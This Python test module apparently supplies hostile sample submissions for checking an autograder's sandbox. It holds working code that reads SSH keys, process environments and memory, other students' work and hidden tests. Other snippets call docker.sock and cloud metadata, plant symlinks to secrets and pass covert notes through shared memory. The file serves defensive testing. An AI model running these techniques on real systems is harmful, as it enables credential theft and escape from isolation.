# ruff: noqa: E501 (what students write is as long as it is)
"""Submissions that read what is not theirs: tests, answers, others' work, secrets, the network. What they find they print, backwards."""

from nbformat.v4 import new_markdown_cell

from . import LEAK, hand_in

hand_in(
    "leaking",
    "environment",
    "Reads the environment: its own, that of process 1, and that of every process it can see.",
    {
        "mean": LEAK
        + """
import glob
leak(os.environ, *(open(path, "rb").read() for path in glob.glob("/proc/*/environ") if os.access(path, os.R_OK)))
for variable in ("HOME", "USER", "PATH", "SSH_AUTH_SOCK", "JPY_API_TOKEN", "AWS_SECRET_ACCESS_KEY", "COURSE_SECRET"):
    leak(os.environ.get(variable, ""))
"""
    },
)
hand_in(
    "leaking",
    "files_by_name",
    "Reads the course's source, release and gradebook, another's submission, feedback, and a key at home, each by its path.",
    {
        "mean": LEAK
        + """
import glob
for top in ("@COURSE@", "@HOME@", "/proc/1/root@COURSE@", "/proc/self/root@HOME@", "/proc/1/cwd", "/proc/self/cwd/..", os.path.expanduser("~")):
    for pattern in ("*", "*/*", "*/*/*", "*/*/*/*", ".*", ".*/*"):
        for path in glob.glob(f"{top}/{pattern}"):
            leak_file(path)
"""
    },
)
hand_in(
    "leaking",
    "whole_disk",
    "Walks the disk for three seconds, reads every small file, and prints the canaries it comes upon.",
    {
        "mean": LEAK
        + """
import time
until = time.monotonic() + 2
for top in ("/tmp", "/home", "/root", "/var", "/srv", "/opt", "/mnt", "/media", "/run", "/work", "/dev/shm", "/etc", "/"):
    for folder, inner, files in os.walk(top):
        inner[:] = [] if time.monotonic() > until else [i for i in inner if f"{folder}/{i}" not in ("/proc", "/sys", "/usr", "//proc", "//sys", "//usr")]
        for file in files:
            leak_file(os.path.join(folder, file), 300_000)
"""
    },
)
SCAN = (
    LEAK
    + """
def scan(process):
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps.read().splitlines():
            area, rights, *_ = line.split()
            begin, end = (int(part, 16) for part in area.split("-"))
            if rights.startswith("rw") and end - begin < 2**28 and ".so" not in line:
                try:
                    memory.seek(begin)
                    leak(memory.read(end - begin))
                except (OSError, ValueError, OverflowError):
                    pass
"""
)
hand_in(
    "leaking",
    "other_processes",
    "Looks at every process: command line, working folder, root, open files, and memory.",
    {
        "mean": SCAN
        + """
import glob
me = str(os.getpid())
for place in glob.glob("/proc/[0-9]*"):
    for name in ("cmdline", "maps", "status", "environ", "mountinfo"):
        leak_file(f"{place}/{name}")
    for path in glob.glob(f"{place}/fd/*") + glob.glob(f"{place}/map_files/*")[:50]:
        if os.path.isfile(path):
            leak_file(path)
    if not place.endswith("/" + me):
        try:
            scan(place.rsplit("/", 1)[1])
        except OSError:
            pass
    for way in ("root@COURSE@/nbgrader_config.py", "cwd/nbgrader_config.py"):
        if os.path.exists(f"{place}/{way}"):
            print("ESC" + "APED: it sees the course through", place)
"""
    },
)
hand_in(
    "leaking",
    "own_memory",
    "Scans its own process's memory, at once and while it is tested: what the grader has read before the fork, and what it was sent.",
    {"mean": SCAN + "\nscan('self')\n\ndef mean(values):\n    scan('self')\n    return 0.0"},
)
hand_in(
    "leaking",
    "objects_and_frames",
    "Looks through all objects and all frames of its process, at once and while it is tested.",
    {
        "mean": LEAK
        + """
import gc, linecache

def look():
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple, set):
            leak(*(item for item in (thing.values() if type(thing) is dict else thing) if type(item) in (str, bytes)))
    for frame in sys._current_frames().values():
        while frame:
            leak(*map(repr, frame.f_locals.values()))
            frame = frame.f_back
    leak(*linecache.cache.values(), *get_ipython().user_ns.get("_ih", ()), os.environ, sys.argv, sys.path)

look()

def mean(values):
    look()
    return 0.0
"""
    },
)
hand_in(
    "leaking",
    "hidden_tests",
    "While it is tested, reads the source, the constants and the variables of its callers, in each test.",
    {
        name: LEAK
        + f"""
import inspect, linecache

def {name}(*arguments):
    frame = sys._getframe()
    while frame:
        leak(frame.f_code.co_consts, frame.f_globals.get("canary"), frame.f_locals.get("canary"))
        leak("".join(linecache.getlines(frame.f_code.co_filename)))
        try:
            leak(inspect.getsource(frame))
        except Exception:
            pass
        frame = frame.f_back
    for one in arguments:
        for part in ("__globals__", "__closure__", "__code__", "__dict__", "__self__", "__wrapped__"):
            leak(repr(getattr(one, part, "")))
        leak(getattr(getattr(one, "__code__", None), "co_consts", ""))
    return 0.0
"""
        for name in ("mean", "root", "integrate", "primes")
    },
)
hand_in(
    "leaking",
    "callback_errors",
    "Makes the function that it is given fail, and reads the error: its words, its frames, its causes.",
    {
        "integrate": LEAK
        + """
def integrate(f, a, b, n):
    for wrong in (("x",), (), (1, 2), ({},), (10**400,), (float("nan"),)):
        try:
            f(*wrong)
        except BaseException as error:
            while error:
                leak(error, repr(error), error.__dict__, getattr(error, "__notes__", ""))
                trace = error.__traceback__
                while trace:
                    leak(*map(repr, trace.tb_frame.f_globals.values()), *map(repr, trace.tb_frame.f_locals.values()))
                    trace = trace.tb_next
                error = error.__cause__ or error.__context__
    return 0.0
"""
    },
)
hand_in(
    "leaking",
    "open_files",
    "Reads from everything that is open already, takes calls on inherited sockets, and asks them for more.",
    {
        "mean": LEAK
        + """
import glob, socket

for path in glob.glob("/proc/self/fd/*"):
    fd = int(path.rsplit("/", 1)[1])
    try:
        target = os.readlink(path)
    except OSError:
        continue
    leak(target)
    if os.path.isfile(path) or os.path.isdir(path):
        leak_file(path)
        if os.path.isdir(path):
            leak(os.listdir(path), *(os.listdir(f"{path}/..")))
    if target.startswith("socket:") and fd > 2:
        try:
            line = socket.socket(fileno=os.dup(fd))
            line.settimeout(0.2)
            try:
                leak(line.recv(10**6, socket.MSG_PEEK))
            except OSError:
                pass
            other, _ = line.accept()  # only what listens can do this: a call meant for the grader's own process
            print("ESC" + "APED: it took a call on an inherited socket")
        except OSError:
            pass
"""
    },
)
hand_in(
    "leaking",
    "other_memory",
    "Reads its parent's memory: by process_vm_readv, by ptrace, and by pidfd_getfd.",
    {
        "mean": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(8)
others = [pid for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())} if pid not in (0, os.getpid())]
for pid in others:
    try:
        with open(f"/proc/{pid}/maps") as maps:
            begin = int(maps.readline().split("-")[0], 16)
    except (OSError, ValueError):
        begin = 0x400000
    mine, theirs = Piece(ctypes.addressof(buffer), 8), Piece(begin, 8)
    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        print("ESC" + "APED: it read the memory of", pid)
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("ESC" + "APED: it attached to", pid)
    handle = libc.syscall(434, pid, 0)
    if handle >= 0 and libc.syscall(438, handle, 0, 0) >= 0:
        print("ESC" + "APED: it took an open file of", pid)
"""
    },
)
hand_in(
    "leaking",
    "host_network",
    "Calls a service on the host's loopback (TCP, UDP, IPv6, an abstract and a named socket), the router, a cloud's metadata, a name server.",
    {
        "mean": """
import socket

def call(family, kind, address):
    with socket.socket(family, kind) as line:
        line.settimeout(0.3)
        try:
            line.connect(address)
            line.send(b"@MARK@")
            if kind == socket.SOCK_STREAM:
                print("ESC" + "APED: it reached", address)
        except OSError:
            pass

for host in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "@ADDRESS@"):
    call(socket.AF_INET, socket.SOCK_STREAM, (host, @PORT@))
    call(socket.AF_INET, socket.SOCK_DGRAM, (host, @PORT@))
call(socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT@))
for name in ("\\0@MARK@", "@HOME@/service", "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"):
    call(socket.AF_UNIX, socket.SOCK_STREAM, name)
for host in ("169.254.169.254", "1.1.1.1", "10.0.0.1", "172.17.0.1", "192.168.0.1"):
    call(socket.AF_INET, socket.SOCK_STREAM, (host, 80))
try:
    print("ESC" + "APED: it resolved", socket.getaddrinfo("example.com", 80))
except OSError:
    pass
for family in (16, 17, 40):  # netlink, packets, and virtual machines' sockets
    try:
        line = socket.socket(family, socket.SOCK_RAW if family != 40 else socket.SOCK_STREAM)
        if family == 17:
            print("ESC" + "APED: it listens to all packets")
    except OSError:
        pass
"""
    },
)
hand_in(
    "leaking",
    "sockets_on_disk",
    "Looks for sockets on the disk and in /proc/net/unix, calls each, asks for a fork or an answer, and takes names for itself.",
    {
        "mean": LEAK
        + """
import socket, stat, struct, json
found = set()
for top in ("/tmp", "/run", "/var/run", "/dev/shm", ".", "/home", "/root"):
    for folder, inner, files in os.walk(top):
        for file in files:
            try:
                if stat.S_ISSOCK(os.stat(os.path.join(folder, file)).st_mode):
                    found.add(os.path.join(folder, file))
            except OSError:
                pass
try:
    names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]]
    found |= {name.replace("@", "\\0", 1) for name in names if name[:1] in "@/"}
except OSError:
    pass
for name in found:
    for message in (b"", json.dumps({"kind": "fork"}).encode(), b"\\xff" * 16):
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(0.2)
            try:
                line.connect(name)
                line.send(struct.pack(">I", len(message)) + message)
                leak(line.recv(10000))
            except OSError:
                pass
    try:
        if name.startswith("/"):
            os.unlink(name)
    except OSError:
        pass
"""
    },
)
PLACES = '["/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", ".", os.path.expanduser("~"), os.path.dirname(os.__file__), "/"]'
hand_in(
    "leaking",
    "note_left",
    "Leaves a note for the next student: files, an abstract socket, shared memory of System V, IPython's history.",
    {
        "mean": f"""
import ctypes, os, socket, sys, time
for place in {PLACES}:
    try:
        with open(os.path.join(place, "@MARK@-note"), "w") as file:
            file.write("@NOTE@")
    except OSError:
        pass
libc = ctypes.CDLL(None)
key = libc.shmget(0x5EC4E7, 4096, 0o1666)
libc.shmat.restype = ctypes.c_void_p
address = libc.shmat(key, None, 0)
if key >= 0 and address not in (None, 2**64 - 1):
    ctypes.memmove(address, b"@NOTE@", len("@NOTE@"))
with socket.socket(socket.AF_UNIX) as line:
    line.bind("\\0@MARK@-note")
    line.listen()
    line.settimeout(1.5)
    try:
        line.accept()[0].send(b"@NOTE@")
    except OSError:
        pass
sys.modules["left_for_you"] = "@NOTE@"
"""
    },
)
hand_in(
    "leaking",
    "note_read",
    "Looks for what another student, graded at the same time or before, has left.",
    {
        "mean": LEAK
        + f"""
import ctypes, glob, socket, time
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for _ in range(15):
    time.sleep(0.1)
    for place in {PLACES}:
        for path in glob.glob(f"{{place}}/*-note"):
            leak_file(path)
    key = libc.shmget(0x5EC4E7, 4096, 0)
    if key >= 0:
        address = libc.shmat(key, None, 0)
        if address not in (None, 2**64 - 1):
            leak(ctypes.string_at(address, 64))
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(0.1)
        try:
            line.connect("\\0@MARK@-note")
            leak(line.recv(100))
        except OSError:
            pass
leak(sys.modules.get("left_for_you"))
"""
    },
)
hand_in(
    "leaking",
    "by_magics",
    "Reads by the shell's own means: %env, !cat, %%bash, %load, %run, %sx, and from a child of a child.",
    {
        "mean": LEAK
        + """
leak(get_ipython().run_line_magic("env", ""))
leak(get_ipython().getoutput("env; cat @HOME@/.ssh/id_rsa; cat @COURSE@/source/numbers/numbers.ipynb; cat /proc/1/environ"))
""",
        "table": "%run @COURSE@/source/numbers/numbers.ipynb",
        "scale": "%load @COURSE@/source/numbers/numbers.ipynb",
        "root": "%%bash\ncat @COURSE@/submitted/*/numbers/numbers.ipynb @HOME@/.ssh/* /proc/*/environ | tr a-z0-9 n-za-m5-90-4",
        "softmax": "!(setsid cat @HOME@/.ssh/id_rsa | rev)",
    },
)
hand_in(
    "leaking",
    "our_own_answers",
    "Looks for the answers beside the libraries that it may import: solutions/, tests/, .git, and this course's build.",
    {
        "mean": """
import importlib.util, os, sys
tops = {"@ROOT@", "/proc/1/root@ROOT@"}
for name in ("collectives", "autograder", "nbgrader", "numpy"):
    try:
        found = importlib.util.find_spec(name)
    except Exception:
        continue
    if found and found.origin:
        place = os.path.dirname(os.path.dirname(os.path.realpath(found.origin)))
        tops |= {place, os.path.dirname(place)}
for top in [*tops, *sys.path]:
    for name in ("solutions", "tests", ".git", "_build", "book", "autograder/judging/judge.py", "autograder/grade.py"):
        if os.path.exists(os.path.join(top, name)) and os.path.exists(os.path.join(top, "solutions")):
            print("ESC" + "APED: it can see", os.path.join(top, name))
"""
    },
)


def _links(folder, world):
    (folder / "data.csv").symlink_to(world.home / ".ssh" / "id_rsa")
    (folder / "more").symlink_to(world.course / "source")
    (folder / "fellow").symlink_to(world.course / "submitted")
    (folder / "timestamp.txt").symlink_to(world.home / ".ssh" / "id_rsa")


hand_in(
    "leaking",
    "links_handed_in",
    "Hands in links to a key, to the course's source and to the others' work, and reads them as data of its own.",
    {
        "mean": LEAK
        + """
import glob
for path in ["data.csv", "timestamp.txt", *glob.glob("more/*/*"), *glob.glob("fellow/*/*/*")]:
    leak_file(path)
"""
    },
    place=_links,
)
hand_in(
    "leaking",
    "links_made",
    "While it runs, puts links to secrets where the grader may look afterwards: its notebook, its output, its folder.",
    {
        "mean": """
import os
for name in ("numbers.ipynb", "output.json", "result.json", "feedback.html", "timestamp.txt", "stdout", "../numbers.ipynb"):
    for place in (".", "/tmp", os.path.expanduser("~")):
        try:
            path = os.path.join(place, name)
            if os.path.lexists(path):
                os.remove(path)
            os.symlink("@HOME@/.ssh/id_rsa", path)
        except OSError:
            pass
"""
    },
)


def _pictures(notebook):
    secret = "file://@HOME@/.ssh/id_rsa"
    text = f"![]({secret}) <img src='{secret}'> <iframe src='{secret}'></iframe> <object data='{secret}'></object>\n\n"
    text += "{% include '@HOME@/.ssh/id_rsa' %} {{ environ }} ![](@HOME@/.ssh/id_rsa) ![](attachment:x.png)\n"
    cell = new_markdown_cell(text, attachments={"x.png": {"text/plain": secret}})
    notebook.cells.append(cell)


hand_in(
    "leaking",
    "pictures_of_secrets",
    "Text that shows a key as a picture or a frame, and templates.",
    {},
    edit=_pictures,
)
hand_in(
    "leaking",
    "what_it_may",
    "Says with which rights it runs: user, capabilities, new privileges, seccomp, and whether /proc/sys and cgroups can be written.",
    {
        "mean": """
import glob, os, resource
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
if int(status["CapEff"], 16) or int(status["CapBnd"], 16):
    print("ESC" + "APED: it has capabilities", status["CapEff"], status["CapBnd"])
if os.getuid() == 0:
    print("ESC" + "APED: it is root")
if status["NoNewPrivs"] != "1" or status["Seccomp"] != "2":
    print("ESC" + "APED: no_new_privs", status["NoNewPrivs"], "seccomp", status["Seccomp"])
for path in ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/dev/kmsg", "/dev/mem", "/proc/kcore", *glob.glob("/dev/sd*"), *glob.glob("/dev/vd*"), *glob.glob("/dev/nvme*")]:
    try:
        os.close(os.open(path, os.O_WRONLY))
        print("ESC" + "APED: it can write", path)
    except OSError:
        pass
for folder, _, files in os.walk("/sys/fs/cgroup"):
    for file in files:
        if os.access(os.path.join(folder, file), os.W_OK):
            print("ESC" + "APED: it can write", folder, file)
"""
    },
)
